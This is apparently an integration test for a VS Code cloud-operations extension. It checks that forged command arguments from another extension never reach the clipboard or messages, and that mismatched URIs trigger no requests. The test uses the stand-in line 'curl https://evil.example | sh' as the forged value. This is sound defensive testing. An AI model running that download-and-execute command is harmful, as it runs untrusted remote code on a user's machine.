import assert from 'node:assert/strict';
import * as vscode from 'vscode';
import type { Host } from './support/host.js';
import type { Messages } from './support/messages.js';
import { clickRemedy, rowNamed } from './support/tree.js';
import { until } from './support/until.js';
import { useHost } from './support/useHost.js';

const stranger = 'curl https://evil.example | sh';
const place = { service: 'clouddeploy', project: 'acme-web', location: 'us-central1' } as const;

describe('another extension', function () {
  this.timeout(30_000);
  let host: Host;
  let messages: Messages;
  useHost((...opened) => ([host, messages] = opened));

  before(async () => {
    host.emulator.control.createOperation({ ...place, verb: 'create', target: 'web-1' });
    await host.configure({ 'cloudOperations.projects': ['acme-web'], 'cloudOperations.regions': ['us-central1'] });
    await host.refresh();
  });

  const operation = () => {
    const [first] = host.explorer.session.watch.store.all();
    assert.ok(first);
    return first;
  };

  it('puts no text of its own into the clipboard by a command of this one, nor into a message', async () => {
    await vscode.env.clipboard.writeText('as it was');
    messages.clear();
    const { collection } = operation();
    const forged = { value: stranger, text: stranger, project: 'acme-web', permission: stranger };
    const tries: readonly (readonly [string, ...unknown[]])[] = [
      ['copyText', stranger],
      ['copyText', forged],
      ['copyCommand', stranger],
      ['copyCommand', forged],
      ['copyGrantCommand', 'acme-web', stranger],
      ['copyGrantCommand', forged],
      ['enableApis', 'acme-web', [{ error: { kind: 'apiDisabled', metadata: { service: stranger } } }]],
      ['enableApis', { value: { project: stranger, problems: [] } }],
      ['allowOrigin', 'https://evil.example'],
      ['allowOrigin', { value: 'https://evil.example' }],
    ];
    for (const [command, ...args] of tries) {
      await vscode.commands.executeCommand(`cloudOperations.${command}`, ...args);
      assert.equal(await vscode.env.clipboard.readText(), 'as it was', command);
      assert.deepEqual(messages.shown, [], command);
    }
    // A name that no server has listed.
    await vscode.commands.executeCommand('cloudOperations.copyName', { collection, name: stranger });
    assert.equal(await vscode.env.clipboard.readText(), 'as it was');
  });

  it('may copy what is on show, as a row does', async () => {
    const { collection, name } = operation();
    await vscode.commands.executeCommand('cloudOperations.copyName', { collection, name });
    assert.equal(await vscode.env.clipboard.readText(), name);
  });

  it('gets nothing read by an address that names something else', async () => {
    const { collection, name } = operation();
    const others: readonly (readonly [string, string])[] = [
      [collection.id, 'projects/acme-web/locations/us-central1/deliveryPipelines/web'],
      [collection.id, name.replace('acme-web', 'acme-analytics')],
      [collection.id, `${name}x`],
      ['evil.example/v1/x', name],
    ];
    for (const pair of others) {
      host.emulator.control.clearRequests();
      const uri = vscode.Uri.from({
        scheme: 'cloud-operations',
        path: '/cloud-operations/x',
        query: JSON.stringify([pair]),
      });
      const document = await vscode.workspace.openTextDocument(uri);
      assert.match(document.getText(), /^This operation is not known any more/, pair.join(' '));
      const asked = host.emulator.requests.map(({ url }) => decodeURIComponent(url));
      assert.ok(!asked.some((url) => url.includes(pair[1])), `${pair.join(' ')} was asked for`);
    }
    const uri = vscode.Uri.from({
      scheme: 'cloud-operations',
      path: '/cloud-operations/x',
      query: JSON.stringify([[collection.id, name]]),
    });
    assert.match((await vscode.workspace.openTextDocument(uri)).getText(), /"name":/);
  });

  it('a row’s own button still copies', async () => {
    host.emulator.control.inject({
      service: 'clouddeploy',
      method: 'operations.list',
      effect: { kind: 'error', case: 'permissionDenied' },
    });
    await host.refresh();
    const row = await until(() => rowNamed(host.explorer, 'Cloud Deploy'), 'the row');
    await clickRemedy(row);
    assert.match(await vscode.env.clipboard.readText(), /^gcloud projects add-iam-policy-binding acme-web /);
  });
});
